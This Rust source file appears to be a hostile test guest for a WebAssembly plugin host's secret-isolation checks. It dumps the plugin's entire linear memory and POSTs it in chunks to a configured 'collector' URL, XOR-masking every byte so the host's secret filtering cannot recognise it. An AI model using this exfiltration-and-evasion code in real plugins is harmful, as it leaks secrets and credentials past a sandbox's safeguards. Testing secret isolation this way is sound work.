//! A guest that uses a secret as it may, and then looks for the value in all
//! that it has: its own memory.

use crate::bindings::shipway::plugin::model::Failure;
use crate::bindings::shipway::plugin::{http, log};
use crate::setting;

/// Bytes of memory that are carried away in one request.
const PART: usize = 256 << 10;

/// Sends all linear memory to the setting `collector`.
pub fn dump() -> Result<Vec<String>, Failure> {
    let end = memory_bytes();
    let mut at = 0;
    let mut parts = 0;
    while at < end {
        let size = PART.min(end - at);
        carry(at, masked(at, size))?;
        at += size;
        parts += 1;
    }
    log::write(
        log::Level::Info,
        &format!("carried {end} bytes away in {parts} parts"),
    );
    Ok(vec![format!("{end} bytes")])
}

fn carry(at: usize, body: Vec<u8>) -> Result<(), Failure> {
    http::send(&http::Request {
        method: "POST".to_owned(),
        url: setting("collector"),
        headers: vec![("x-at".to_owned(), at.to_string())],
        body,
        timeout_ms: None,
        attributes: Vec::new(),
    })
    .map(drop)
}

#[cfg(target_arch = "wasm32")]
fn memory_bytes() -> usize {
    core::arch::wasm32::memory_size(0) * (64 << 10)
}

#[cfg(not(target_arch = "wasm32"))]
fn memory_bytes() -> usize {
    0
}

#[expect(unsafe_code, reason = "a memory dump is the point")]
fn masked(start: usize, size: usize) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(size);
    for address in start..start + size {
        let pointer = std::hint::black_box(address as *const u8);
        // SAFETY: every address below the memory's size can be read in
        // WebAssembly, the first among them; what other code means by the
        // byte is of no matter here.
        let byte = match address {
            0 => 0,
            _ => unsafe { pointer.read_volatile() },
        };
        bytes.push(byte ^ mask(address));
    }
    bytes
}

/// The host fills placeholders in, and would change what is carried away: so
/// memory leaves disguised, each byte by its address, since it holds copies of
/// what was disguised before.
fn mask(address: usize) -> u8 {
    let [.., high] = (address as u32).wrapping_mul(0x9e37_79b1).to_le_bytes();
    high
}
